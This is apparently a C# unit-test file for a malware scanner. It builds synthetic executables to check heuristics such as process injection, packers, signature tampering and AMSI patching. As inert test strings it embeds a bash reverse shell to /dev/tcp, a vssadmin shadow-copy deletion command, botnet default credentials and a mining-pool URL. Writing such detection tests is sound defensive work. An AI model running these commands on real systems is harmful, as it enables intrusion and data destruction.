using System.Buffers.Binary;
using System.Reflection;
using System.Reflection.Emit;
using System.Reflection.Metadata;
using System.Reflection.Metadata.Ecma335;
using System.Reflection.PortableExecutable;
using System.Runtime.InteropServices;
using System.Text;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.ExecutableHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about programs, and three that come close.</summary>
public sealed class ProgramCases
{
    private static readonly byte[] Noise = MakeNoise(8192);
    private static readonly byte[] Signed = File.ReadAllBytes(PackageFiles.Assemblies.First(path => path.EndsWith("System.Console.dll", StringComparison.Ordinal)));
    private static readonly byte[] Unsigned = File.ReadAllBytes(PackageFiles.NativePe.First(path => path.EndsWith("win-x64/native/e_sqlite3.dll", StringComparison.Ordinal)));
    private static readonly byte[] Elf = File.ReadAllBytes(PackageFiles.Elf.First(path => path.Contains("linux-x64/", StringComparison.Ordinal)));
    private static readonly SampleFile Program = Pe(new());

    // Stands for a call into System.Management.Automation, which is none of the test's references.
    private static readonly Lazy<MethodInfo> Automation = new(() =>
    {
        var assembly = new PersistedAssemblyBuilder(new AssemblyName("System.Management.Automation"), typeof(object).Assembly);
        var type = assembly.DefineDynamicModule("m").DefineType("System.Management.Automation.PowerShell", TypeAttributes.Public);
        var method = type.DefineMethod("Create", MethodAttributes.Public | MethodAttributes.Static, typeof(void), []);
        method.GetILGenerator().Emit(OpCodes.Ret);
        type.CreateType();
        return method;
    });

    private static readonly HeuristicCase[] Windows =
    [
        new(PeWritableCode, Pe(new PeBuilder().WithCode([0xC3], 0xE0000020)), Program, Pe(new PeBuilder().WithCode([0xC3], 0x60000020, "UPX0")), new("a.dll", Unsigned)),
        new(PeOddEntry, Pe(new PeBuilder().StartingAt(0x9000)), Program, Pe(new PeBuilder().StartingAt(0)), new("a.dll", Unsigned)),
        new(PeEntropy, Pe(new PeBuilder().WithCode(Noise)), Program, Pe(new PeBuilder().WithCode(new byte[8192])), Pe(new PeBuilder().WithOverlay(Noise))),
        new(PePacker, Pe(new PeBuilder().WithCode([0xC3], name: "UPX0")), Program, Pe(new PeBuilder().WithCode([0xC3], name: ".upx")), Pe(new PeBuilder().WithData("UPX0"))),
        new(PeProtector, Pe(new PeBuilder().WithCode([0xC3], name: ".vmp0")), Program, Pe(new PeBuilder().WithCode([0xC3], name: ".vmx")), Pe(new PeBuilder().WithData(".themida"))),
        new(PeInjection, Importing("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Importing("VirtualAllocEx", "ReadProcessMemory"), Importing("WriteProcessMemory", "WaitForDebugEvent"), Importing("VirtualAlloc", "CreateThread")),
        new(PeHollowing, Importing("NtUnmapViewOfSection", "WriteProcessMemory"), Importing("NtUnmapViewOfSection", "NtMapViewOfSection"), Importing("UnmapViewOfFile", "WriteProcessMemory"), Importing("WriteProcessMemory")),
        new(PeDownload, Importing("URLDownloadToFileW", "ShellExecuteW"), Importing("URLDownloadToFileW", "CloseHandle"), Importing("CreateProcessW", "CloseHandle"), Importing("InternetReadFile", "ShellExecuteW")),
        new(PeDynamicOnly, Importing("LoadLibraryA", "GetProcAddress"), Importing("LoadLibraryA", "GetProcAddress", "A", "B", "C", "D", "E", "F", "G"), Importing("GetProcAddress"), Importing("LoadLibraryA")),
        new(PeProgramInResource, PeWithResource(Pe(new()).Content), PeWithResource(InertFiles.Png()), PeWithResource(Encoding.ASCII.GetBytes("MZ is how they begin")), Program),
        new(PeOverlayPayload, Pe(new PeBuilder().WithOverlay(new PeBuilder().Build())), Program, Pe(new PeBuilder().WithData("Nullsoft Install System").WithOverlay(new PeBuilder().Build())), Pe(new PeBuilder().WithOverlay("symbols and such, but no file of its own, so it is left alone"u8.ToArray()))),
        new(PeBloat, Pe(new PeBuilder().WithOverlay(new byte[(30 << 20) + 1000])), Pe(new PeBuilder().WithOverlay(new byte[1 << 20])), Program, Pe(new PeBuilder().WithOverlay(Noise))),
        new(PeTlsCallback, new("a.exe", WithCallback()), Program, new("a.dll", Signed), Pe(new PeBuilder().WithCode([0xC3], name: ".tls"))),
        new(PeDocumentIcon, PeWithIcon(Sheet(hasCorner: true, hasPatch: true)), PeWithIcon(Sheet(hasCorner: false, hasPatch: true)), PeWithIcon(Sheet(hasCorner: true, hasPatch: false)), Program),
        new(PeSuspectPdb, PeWithPdb(@"C:\src\PasswordStealer\Release\a.pdb"), PeWithPdb(@"C:\src\Minerva\Release\a.pdb"), PeWithPdb(@"C:\src\AntiRansomwareService\a.pdb"), PeWithPdb(@"D:\a\_work\1\s\a.pdb")),
        new(PeFakeVendor, PeWithCompany("Microsoft Corporation"), PeWithCompany("Microsoft Corporate Travel"), PeWithCompany("Firm"), new("a.dll", Signed)),
        new(PeShadowCopies, Pe(new PeBuilder().WithData("vssadmin.exe delete shadows /all")), Pe(new PeBuilder().WithData("see vssadmin in the manual")), Pe(new PeBuilder().WithData("delete shadows of the picture")), Program),
    ];

    private static readonly HeuristicCase[] Signatures =
    [
        new(SignatureMismatch, new("a.dll", Changed(Signed)), new("a.dll", Signed), new("a.dll", Unsigned), new("a.dll", SelfSign(Unsigned))),
        new(SignatureInvalid, new("a.dll", BreakSignature()), new("a.dll", Signed), new("a.dll", SelfSign(Unsigned)), new("a.dll", Changed(Signed))),
        new(SelfSigned, new("a.dll", SelfSign(Unsigned)), new("a.dll", Signed), new("a.dll", Unsigned), new("a.dll", Changed(SelfSign(Unsigned)))),
        new(KnownBadSigner, SignedBy("/CN=VeriSign Class 3 Code Signing 2010 CA", "0x43BB437D609866286DD839E1D00309F5"), SignedBy("/CN=VeriSign Class 3 Code Signing 2010 CA", "0x43BB437D609866286DD839E1D00309F6"), SignedBy("/CN=Somebody", "0x43BB437D609866286DD839E1D00309F5"), new("a.dll", Signed)),
        new(ExpiredSigner, SignedBy("/CN=Nobody", "7", "2015-01-01 00:00:00"), SignedBy("/CN=Nobody", "7"), new("a.dll", Signed), new("a.dll", Unsigned)),
        new(CertificateTableData, new("a.dll", WithHiddenData(Signed, 2048)), new("a.dll", Signed), new("a.dll", WithHiddenData(Signed, 64)), new("a.dll", Unsigned)),
        new(SignatureTrusted, new("a.dll", Signed), new("a.dll", Changed(Signed)), new("a.dll", SelfSign(Unsigned)), new("a.dll", Unsigned)),
    ];

    private static readonly HeuristicCase[] Managed =
    [
        new(NetObfuscator, Net(type: "ConfusedByAttribute"), Net(), Net(type: "Obfuscation"), Net(method: "Größe")),
        new(NetReflectiveLoad, Net(calls: [Load, Decode]), Net(calls: [Load]), Net(calls: [Decode]), Net(calls: [LoadByName, Decode])),
        new(NetInjection, Net(native: ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]), Net(native: ["VirtualAllocEx", "ReadProcessMemory"]), Net(native: ["CreateProcessW"]), Net(method: "WriteProcessMemory")),
        new(NetBigResource, Net(resource: MakeNoise(40_000)), Net(resource: new byte[40_000]), Net(resource: MakeNoise(200)), Net()),
        new(NetPowerShellHost, Net(calls: [Automation.Value], isProgram: true), Net(calls: [Decode], isProgram: true), Net(text: "System.Management.Automation", isProgram: true), Net(type: "PowerShell", isProgram: true)),
        new(NetAmsiPatch, Net(native: ["VirtualProtect"], text: "AmsiScanBuffer"), Net(native: ["VirtualProtect"]), Net(text: "AmsiScanBuffer"), Net(native: ["VirtualAlloc"], text: "AmsiScanBuffer")),
    ];

    private static readonly HeuristicCase[] Unix =
    [
        new(ElfWritableCode, new("a", Segments(7)), new("a", Elf), new("a", Segments(5)), new("a", Segments(6))),
        new(ElfNoSections, new("a", Static(sections: false)), new("a", Elf), new("a", Static(sections: true)), new("a", "\u007FELF is the mark")),
        new(ElfOddEntry, new("a", Entry(0x7FFF0000)), new("a", Elf), new("a", Entry(0)), new("a", Static(sections: true))),
        new(ElfUpx, new("a", Static(sections: false, "UPX!")), new("a", Static(sections: true)), new("a", [.. Elf, .. "UPX!"u8]), new("a", Static(sections: false, "UPX"))),
        new(ElfUpxAltered, new("a", Static(sections: false, "$Info: This file is packed with the UPX executable packer")), new("a", [.. Elf, .. "$Info: This file is packed with the UPX"u8]), new("a", Static(sections: false, "packed with the UPX")), new("a", Static(sections: false))),
        new(ElfEntropy, new("a", Static(sections: true, noise: true)), new("a", Static(sections: true)), new("a", Elf), new("a", [.. Elf, .. Noise])),
        new(ElfPreload, Words("/etc/ld.so.preload"), Words("/etc/ld.so.conf"), Words("ld.so.preload"), new("a", Elf)),
        new(ElfBotnet, Words("/dev/watchdog /bin/busybox xc3511 vizxv"), Words("/bin/busybox"), Words("/dev/watchdog"), new("a", Elf)),
        new(ElfMiner, Words("stratum+tcp://pool.invalid:3333"), Words("http://pool.invalid/"), Words("stratum"), new("a", Elf)),
        new(ElfReverseShell, Words("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), Words("/dev/tcp/host/port"), Words("bash -i"), new("a", Elf)),
        new(MachONoSignature, new("a", MachO(isProgram: true, isSigned: false)), new("a", MachO(isProgram: true, isSigned: true)), new("a.dylib", MachO(isProgram: false, isSigned: false)), new("a", Elf)),
    ];

    private static readonly HeuristicCase[] All = [.. Windows, .. Signatures, .. Managed, .. Unix];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];

    private static MethodInfo Load => typeof(Assembly).GetMethod(nameof(Assembly.Load), [typeof(byte[])])!;

    private static MethodInfo LoadByName => typeof(Assembly).GetMethod(nameof(Assembly.Load), [typeof(string)])!;

    private static MethodInfo Decode => typeof(Convert).GetMethod(nameof(Convert.FromBase64String), [typeof(string)])!;

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_program_deserves_it_and_three_that_come_close_do_not(int row) => All[row].CheckAsync();

    private static SampleFile Pe(PeBuilder builder) => new("a.exe", builder.Build());

    private static SampleFile Importing(params string[] functions) => Pe(new PeBuilder().Importing("KERNEL32.dll", functions));

    internal static byte[] MakeNoise(int length)
    {
        var noise = new byte[length];
        new Random(7).NextBytes(noise);
        return noise;
    }

    private static SampleFile PeWithResource(byte[] content) => new("a.exe", Resource(10, content));

    private static SampleFile PeWithIcon(byte[] icon) => new("a.exe", Resource(3, icon));

    // A sheet of 24 by 32 pixels in the middle of 32 by 32, as a PNG icon; drawn here, nobody's.
    private static byte[] Sheet(bool hasCorner, bool hasPatch)
    {
        var rows = new MemoryStream();
        for (var y = 0; y < 32; y++)
        {
            rows.WriteByte(0);
            for (var x = 0; x < 32; x++)
            {
                var isSheet = x is >= 4 and < 28 && !(hasCorner && x - 22 > y);
                var isPatch = hasPatch && x is >= 7 and < 20 && y is >= 18 and < 28;
                rows.Write(!isSheet ? [0, 0, 0, 0] : isPatch ? [200, 20, 30, 255] : [255, 255, 255, 255]);
            }
        }
        return PngBuilder.Build(32, 32, depth: 8, colour: 6, rows.ToArray());
    }

    // IMAGE_DEBUG_DIRECTORY of type 2 with an RSDS record, PE/COFF "The .debug Section".
    private static SampleFile PeWithPdb(string path)
    {
        byte[] record = [.. "RSDS"u8, .. new byte[20], .. Encoding.ASCII.GetBytes(path), 0];
        var file = new PeBuilder().WithCode([0xC3, .. new byte[15], .. new byte[12], 2, 0, 0, 0, .. BitConverter.GetBytes(record.Length), .. BitConverter.GetBytes(0x102C), .. new byte[4], .. record], 0x60000020).Build();
        var at = file.AsSpan().IndexOf("RSDS"u8);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(at - 4), at);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 160), 0x1010);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 164), 28);
        return new("a.exe", file);
    }

    private static SampleFile PeWithCompany(string name) => new("a.exe", Resource(16, VersionInfo(name)));

    // A tree of three levels with one leaf, PE/COFF "The .rsrc Section", behind the code.
    internal static byte[] Resource(int type, byte[] content, PeBuilder? builder = null)
    {
        var file = (builder ?? new()).WithCode([0xC3, .. new byte[15], .. Tree(type, 0x1010, content)], 0x60000020).Build();
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 128), 0x1010);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 132), 88 + content.Length);
        return file;
    }

    private static byte[] Tree(int type, int address, byte[] content)
    {
        byte[] Directory(int id, uint to) => [.. new byte[12], 0, 0, 1, 0, .. BitConverter.GetBytes(id), .. BitConverter.GetBytes(to)];
        return [.. Directory(type, 0x80000018), .. Directory(1, 0x80000030), .. Directory(1033, 72), .. BitConverter.GetBytes(address + 88), .. BitConverter.GetBytes(content.Length), .. new byte[8], .. content];
    }

    // VS_VERSIONINFO > StringFileInfo > StringTable > String, each: length, value length, type, key, padding, value.
    internal static byte[] VersionInfo(string company)
    {
        byte[] Block(string key, byte[] value, int valueLength, byte[] children, bool isText = true)
        {
            byte[] head = [0, 0, (byte)valueLength, (byte)(valueLength >> 8), (byte)(isText ? 1 : 0), 0, .. Encoding.Unicode.GetBytes(key + "\0")];
            byte[] padded = [.. head, .. new byte[(4 - (head.Length % 4)) % 4], .. value];
            byte[] whole = [.. padded, .. new byte[(4 - (padded.Length % 4)) % 4], .. children];
            (whole[0], whole[1]) = ((byte)whole.Length, (byte)(whole.Length >> 8));
            return [.. whole, .. new byte[(4 - (whole.Length % 4)) % 4]];
        }

        var text = Block("CompanyName", Encoding.Unicode.GetBytes(company + "\0"), company.Length + 1, []);
        var table = Block("040904b0", [], 0, text);
        byte[] info = [0xBD, 0x04, 0xEF, 0xFE, .. new byte[48]];
        return Block("VS_VERSION_INFO", info, 52, Block("StringFileInfo", [], 0, table), isText: false);
    }

    // A directory of thread-local storage whose list has one address.
    private static byte[] WithCallback()
    {
        var file = new PeBuilder().WithCode([0xC3, .. new byte[15], .. new byte[24], .. BitConverter.GetBytes(0x140001038UL), .. new byte[8], .. BitConverter.GetBytes(0x140001000UL), .. new byte[8]]).Build();
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 184), 0x1010);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x98 + 188), 40);
        return file;
    }

    private static byte[] Changed(byte[] file)
    {
        var changed = (byte[])file.Clone();
        changed[0x600] ^= 1;
        return changed;
    }

    // A bit of the signature itself: the last certificate table byte before the time stamp would do as well.
    private static byte[] BreakSignature()
    {
        var file = SelfSign(Unsigned);
        var table = BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(CertificateEntry(file)));
        var length = BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(table));
        var end = file.AsSpan(table, length).LastIndexOfAnyExcept((byte)0) + table;
        file[end - 8] ^= 1;
        return file;
    }

    // More room in the certificate table than its one entry takes.
    private static byte[] WithHiddenData(byte[] file, int length)
    {
        byte[] longer = [.. file, .. Noise.AsSpan(0, length)];
        var entry = CertificateEntry(file);
        var table = BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(entry));
        BinaryPrimitives.WriteInt32LittleEndian(longer.AsSpan(entry + 4), longer.Length - table);
        BinaryPrimitives.WriteInt32LittleEndian(longer.AsSpan(table), BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(table)) + length);
        return longer;
    }

    private static int CertificateEntry(byte[] file)
    {
        var optional = BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(0x3C)) + 24;
        return optional + (BinaryPrimitives.ReadUInt16LittleEndian(file.AsSpan(optional)) == 0x20B ? 112 : 96) + 32;
    }

    private static SampleFile SignedBy(string subject, string serial, string? when = null) => new("a.dll", SelfSign(Unsigned, subject, serial, when));

    private static byte[] SelfSign(byte[] file, string subject = "/CN=Nobody", string serial = "7", string? when = null)
    {
        using var folder = new TemporaryFolder();
        folder.Write("in.dll", file);
        string[] clock = when is null ? [] : ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketimeMT.so.1", $"FAKETIME={when}"];
        ForeignTool.Run(folder.Path, "env", [.. clock, "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "certificate.pem", "-days", "3650", "-subj", subject, "-set_serial", serial, "-addext", "extendedKeyUsage=codeSigning"]);
        ForeignTool.Run(folder.Path, "osslsigncode", "sign", "-certs", "certificate.pem", "-key", "key.pem", "-h", "sha256", "-in", "in.dll", "-out", "out.dll");
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.dll"));
    }

    private static SampleFile Net(string type = "Worker", string method = "Work", string[]? native = null, MethodInfo[]? calls = null, byte[]? resource = null, string text = "Hello", bool isProgram = false)
    {
        var assembly = new PersistedAssemblyBuilder(new AssemblyName("sample"), typeof(object).Assembly);
        var defined = assembly.DefineDynamicModule("sample").DefineType(type, TypeAttributes.Public | TypeAttributes.Class);
        foreach (var name in native ?? [])
            defined.DefinePInvokeMethod(name, "kernel32.dll", MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl, CallingConventions.Standard, typeof(void), [], CallingConvention.Winapi, CharSet.Unicode);
        var body = defined.DefineMethod(method, MethodAttributes.Public | MethodAttributes.Static, typeof(void), []);
        var code = body.GetILGenerator();
        code.Emit(OpCodes.Ldstr, text);
        code.Emit(OpCodes.Pop);
        foreach (var call in calls ?? [])
        {
            if (call.DeclaringType!.Name != "PowerShell")
                code.Emit(OpCodes.Ldnull);
            code.Emit(OpCodes.Call, call);
            if (call.ReturnType != typeof(void))
                code.Emit(OpCodes.Pop);
        }
        code.Emit(OpCodes.Ret);
        defined.CreateType();
        var metadata = assembly.GenerateMetadata(out var stream, out _);
        var resources = new BlobBuilder();
        if (resource is not null)
        {
            metadata.AddManifestResource(ManifestResourceAttributes.Public, metadata.GetOrAddString("data"), default, 0);
            resources.WriteInt32(resource.Length);
            resources.WriteBytes(resource);
        }
        var image = new BlobBuilder();
        new ManagedPEBuilder(new PEHeaderBuilder(imageCharacteristics: Characteristics.ExecutableImage | (isProgram ? 0 : Characteristics.Dll)), new MetadataRootBuilder(metadata), stream, managedResources: resources).Serialize(image);
        return new("sample.dll", image.ToArray());
    }

    private static byte[] Segments(byte flags)
    {
        var file = (byte[])Elf.Clone();
        var (start, count) = ((int)BinaryPrimitives.ReadUInt64LittleEndian(file.AsSpan(32)), BinaryPrimitives.ReadUInt16LittleEndian(file.AsSpan(56)));
        foreach (var at in Enumerable.Range(0, count).Select(index => start + (index * 56)).Where(at => file[at] == 1))
            file[at + 4] = flags;
        return file;
    }

    private static byte[] Entry(ulong address)
    {
        var file = (byte[])Elf.Clone();
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(24), address);
        return file;
    }

    internal static SampleFile Words(string words) => new("a", [.. Elf, .. Encoding.ASCII.GetBytes(words)]);

    // A program of one segment that holds it all.
    internal static byte[] Static(bool sections, string words = "", bool noise = false)
    {
        var file = new byte[0x3000];
        "\u007FELF\u0002\u0001\u0001"u8.CopyTo(file);
        (file[16], file[18], file[20], file[52], file[54], file[56]) = (2, 0x3E, 1, 64, 56, 1);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(24), 0x400078);
        file[32] = 64;
        if (sections)
        {
            BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(40), 0x2000);
            (file[58], file[60]) = (64, 2);
        }
        (file[64], file[68]) = (1, 5);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(80), 0x400000);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(96), 0x3000);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(104), 0x3000);
        file[0x78] = 0xC3;
        Encoding.ASCII.GetBytes(words).CopyTo(file, 0x80);
        if (noise)
            MakeNoise(0x2E00).CopyTo(file, 0x100);
        return file;
    }

    // A library of another maker; as a program, and with the command that leads to its signature renamed.
    private static byte[] MachO(bool isProgram, bool isSigned)
    {
        var file = File.ReadAllBytes(PackageFiles.MachO.First(path => path.Contains("osx-arm64", StringComparison.Ordinal)));
        file[12] = (byte)(isProgram ? 2 : 6);
        var (at, count) = (32, BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(16)));
        for (var command = 0; command < count; command++)
        {
            if (!isSigned && BinaryPrimitives.ReadUInt32LittleEndian(file.AsSpan(at)) == 0x1D)
                BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(at), 0x2B);
            at += BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(at + 4));
        }
        return file;
    }
}
